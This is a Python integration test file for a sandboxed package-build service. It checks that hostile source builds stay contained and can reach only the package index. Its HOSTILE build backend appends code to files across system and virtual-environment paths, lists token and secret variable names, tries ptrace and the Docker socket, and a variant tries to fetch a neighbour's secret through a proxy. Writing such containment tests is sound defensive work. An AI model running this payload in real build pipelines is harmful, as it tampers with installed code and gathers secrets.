"""What an index, a package or a hostile build could do to an environment, on the real engine, with an index of ours."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import docker
import pytest
from docker.errors import DockerException

from policies import LOCAL_TENANT, EffectivePolicy, ExtensionName, PolicyStore, SandboxId, TenantId
from sandbox.egress import serve_builds
from sandbox.environment_errors import BuildFailedError, PackageChangedError
from sandbox.environment_locks import KeptLock
from sandbox.environments import Environment, Environments
from sandbox.launcher.build import DockerBuilder
from sandbox.launcher.build_verb import BUILDS, INDEX_ONLY, BuildSettings, IndexSettings
from sandbox.launcher.staging import StagedBuilder
from sandbox.places import Places
from tests.integration.environments.index import WRITES_WHEEL, Index, serve, source, wheel
from tests.stack import gateway

pytestmark = [pytest.mark.docker, pytest.mark.anyio]

IMAGE = os.environ.get("RINGFENCE_NODE_IMAGE", "ringfence-node:cpu")
OTHER = TenantId("other")

#: Runs while it is built; says what it could do in the package that it makes.
HOSTILE = (
    WRITES_WHEEL
    + """
import json, pathlib, socket, sys

def attack():
    done = []
    for root in ("/build/cache", "/build/in", "/opt/venv", "/opt/uv", "/build", "/ringfence", "/etc", "/var/lib"):
        for directory, _, files in os.walk(root):
            for name in files:
                if not name.endswith((".py", ".txt", ".in")):
                    continue  # an index of the cache that was spoilt would only be fetched again
                path = os.path.join(directory, name)
                try:
                    with open(path, "ab") as file:
                        file.write(b"\\nEVIL = 1\\n")
                    done.append(path)
                except OSError:
                    pass
    for target in ("/build/in/lock.txt", "/opt/venv/sitecustomize.py", "/usr/lib/x", "/build/other"):
        try:
            pathlib.Path(target).write_text("EVIL = 1\\n")
            done.append(target)
        except OSError:
            pass
    import ctypes
    if ctypes.CDLL(None).ptrace(0, 0, 0, 0) == 0:
        done.append("a system call that only the engine's own profile allows")
    done += [name for name in os.environ if "TOKEN" in name or "SECRET" in name]
    try:
        socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
        done.append("engine socket")
    except OSError:
        pass
    return done

def build_wheel(directory, config=None, metadata=None):
    report = json.dumps({"done": attack(), "uid": os.getuid()})
    return write_wheel(directory, "hostile", "REPORT = " + repr(report) + "\\n")

def get_requires_for_build_wheel(config=None):
    return []
"""
)


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
def engine() -> Iterator[Any]:
    try:
        client = docker.from_env()
        client.images.get(IMAGE)
    except DockerException as error:
        pytest.skip(f"no container engine with {IMAGE}: {error}")
    yield client
    client.close()


@pytest.fixture
def index(engine: Any) -> Iterator[Index]:
    with serve(gateway()) as index:
        index.files["victim-1.0-py3-none-any.whl"] = wheel("victim", "1.0", {"victim.py": "x = 1\n"})
        index.files["hostile-1.0.tar.gz"] = source("hostile", "1.0", HOSTILE)
        yield index


class Yard:
    """One data directory, builders on the real engine, and our index."""

    def __init__(self, root: Path, engine: Any, index: Index, *, run: Path | None = None) -> None:
        self.root = root
        self.engine = engine
        reach = IndexSettings({"UV_DEFAULT_INDEX": index.url})
        places = Places("test-supply", root, run_root=run or root / "run")
        # Of its own: several of these run at the same time.
        settings = BuildSettings(image=IMAGE, instance=f"test-supply-{secrets.token_hex(4)}")
        if run is not None:
            proxy = places.egress_directory(SandboxId(BUILDS))
            settings = replace(settings, network_mode=INDEX_ONLY, proxy=proxy)
        self.places, self.settings, self.reach = places, settings, reach
        builder = StagedBuilder(
            places, DockerBuilder(settings, reach, connect=lambda: engine), settings, reach
        )
        self.environments = Environments(places.environments, builder, settings=settings)
        self.policy = PolicyStore(root / "policies").effective(ExtensionName("x"))
        build = self.policy.build.model_copy(update={"source_builds": True})
        self.sources = self.policy.model_copy(update={"build": build})
        self.lines: list[str] = []

    async def ensure(
        self,
        line: str,
        *,
        tenant: TenantId = LOCAL_TENANT,
        policy: EffectivePolicy | None = None,
        kept: KeptLock | None = None,
    ) -> Environment:
        pack = self.root / "pack"
        pack.mkdir(exist_ok=True)
        (pack / "requirements.txt").write_text(line)
        return await self.environments.ensure(
            tenant, pack, policy or self.policy, self.lines.append, kept=kept
        )


@pytest.fixture
def yard(tmp_path: Path, engine: Any, index: Index) -> Iterator[Yard]:
    made = Yard(tmp_path.resolve(), engine, index)
    yield made
    left = {"label": f"ringfence.instance={made.settings.instance}"}
    assert engine.containers.list(all=True, filters=left) == []


async def test_a_file_that_changed_at_the_index_is_refused_and_both_hashes_are_named(
    yard: Yard, index: Index
) -> None:
    first = await yard.ensure("victim")
    assert first.key is not None
    assert first.lock is not None
    await yard.environments.discard(first.key)
    index.files["victim-1.0-py3-none-any.whl"] = wheel("victim", "1.0", {"victim.py": "EVIL = 1\n"})
    with pytest.raises(PackageChangedError) as caught:
        await yard.ensure("victim", tenant=OTHER, kept=first.lock)
    (locked,) = caught.value.expected
    assert locked in first.lock.text
    assert caught.value.package.startswith("victim")
    assert caught.value.found
    assert yard.environments.site(first.key) is None


async def test_the_image_knows_the_licences_of_its_packages(yard: Yard) -> None:
    image = await yard.environments.image()
    assert image.licences["numpy"].startswith("BSD-3-Clause")
    assert sorted(image.packages.keys() - image.licences.keys()) == []
    inventory = await yard.environments.inventory(None)
    assert {package.licence for package in inventory.packages if package.name == "yarl"} == {"Apache-2.0"}


async def test_the_same_lock_gives_the_same_environment(yard: Yard) -> None:
    first = await yard.ensure("victim")
    assert first.key is not None
    contents = (yard.environments.manifest(first.key) or {})["contents"]
    await yard.environments.discard(first.key)
    again = await yard.ensure("victim", tenant=OTHER, kept=first.lock)
    assert (again.key, again.reused) == (first.key, False)
    assert (yard.environments.manifest(first.key) or {})["contents"] == contents


async def test_nothing_is_built_from_source_unless_the_policy_says_so(yard: Yard) -> None:
    made = await yard.ensure("hostile")
    assert made.site is None
    assert any("left out: hostile" in note for note in made.notes)


async def test_a_hostile_source_build_reaches_nothing_that_anybody_else_runs(yard: Yard) -> None:
    before = await yard.ensure("victim")
    assert before.key is not None
    hostile = await yard.ensure("hostile", policy=yard.sources)
    assert hostile.site is not None
    names: dict[str, Any] = {}
    exec((hostile.site / "hostile.py").read_text(), names)
    report = json.loads(names["REPORT"])
    # It can spoil its own build only: the cache that it was given, which goes with it.
    assert [path for path in report["done"] if not path.startswith("/build/cache/")] == []
    assert report["uid"] != 0
    await yard.environments.verify(before.key)
    # What the tenant's next builds of wheels are installed from was out of its reach, too.
    await yard.environments.discard(before.key)
    for tenant in (LOCAL_TENANT, OTHER):
        again = await yard.ensure("victim", tenant=tenant, kept=before.lock)
        assert again.site is not None
        assert again.key == before.key
        assert (again.site / "victim.py").read_text() == "x = 1\n"
        await yard.environments.discard(before.key)
    # And another tenant that asks for the same source gets a build of its own.
    theirs = await yard.ensure("hostile", tenant=OTHER, policy=yard.sources)
    assert theirs.key != hostile.key


async def test_a_build_that_lies_about_what_it_is_fails_alone(yard: Yard, index: Index) -> None:
    index.files["hostile-1.0.tar.gz"] = source("hostile", "1.0", "raise SystemExit('no')\n")
    with pytest.raises(BuildFailedError):
        await yard.ensure("hostile", policy=yard.sources)
    assert list((yard.root / "environments").glob("[0-9a-f]*")) == []


# -- builds that reach the index and nothing else --------------------------------------------------------------------

#: Says in the package that it makes what it reached while it was built.
CURIOUS = HOSTILE.replace(
    'report = json.dumps({"done": attack(), "uid": os.getuid()})',
    """
    reached = []
    for host, port in json.loads(%r):
        try:
            socket.create_connection((host, port), timeout=30).close()
            reached.append("direct")
        except OSError:
            pass
        try:
            proxy = socket.create_connection(("127.0.0.1", 3128), timeout=30)
            place = f"{host}:{port}"
            asked = f"GET http://{place}/files/secret HTTP/1.1\\r\\nHost: {place}\\r\\n\\r\\n"
            proxy.sendall(asked.encode())
            if b" 200 " in proxy.recv(200):
                reached.append("through the proxy")
        except OSError:
            pass
    report = json.dumps({"reached": reached})
    """.strip(),
)


@pytest.mark.parametrize("is_walled", [True, False])
async def test_a_build_reaches_the_index_and_nothing_else(
    tmp_path: Path, engine: Any, index: Index, is_walled: bool
) -> None:
    run = Path(tempfile.mkdtemp(prefix="rf-"))  # a socket's path has to be short
    gateway = index.url.removeprefix("http://").partition(":")[0]
    try:
        with serve(gateway) as other:
            other.files["secret"] = b"a neighbour's"
            port = int(other.url.split(":")[2].partition("/")[0])
            code = CURIOUS % json.dumps([[gateway, port]])
            index.files["hostile-1.0.tar.gz"] = source("hostile", "1.0", code)
            yard = Yard(tmp_path, engine, index, run=run if is_walled else None)
            if is_walled:
                async with serve_builds(yard.places, yard.settings, yard.reach):
                    assert (await yard.ensure("victim")).packages == {"victim": "1.0"}
                    made = await yard.ensure("hostile", policy=yard.sources)
            else:
                made = await yard.ensure("hostile", policy=yard.sources)
            assert made.site is not None
            names: dict[str, Any] = {}
            exec((made.site / "hostile.py").read_text(), names)
            # Without the wall the same build reaches the neighbour: that is what the setting is for.
            assert json.loads(names["REPORT"])["reached"] == ([] if is_walled else ["direct"])
    finally:
        shutil.rmtree(run)
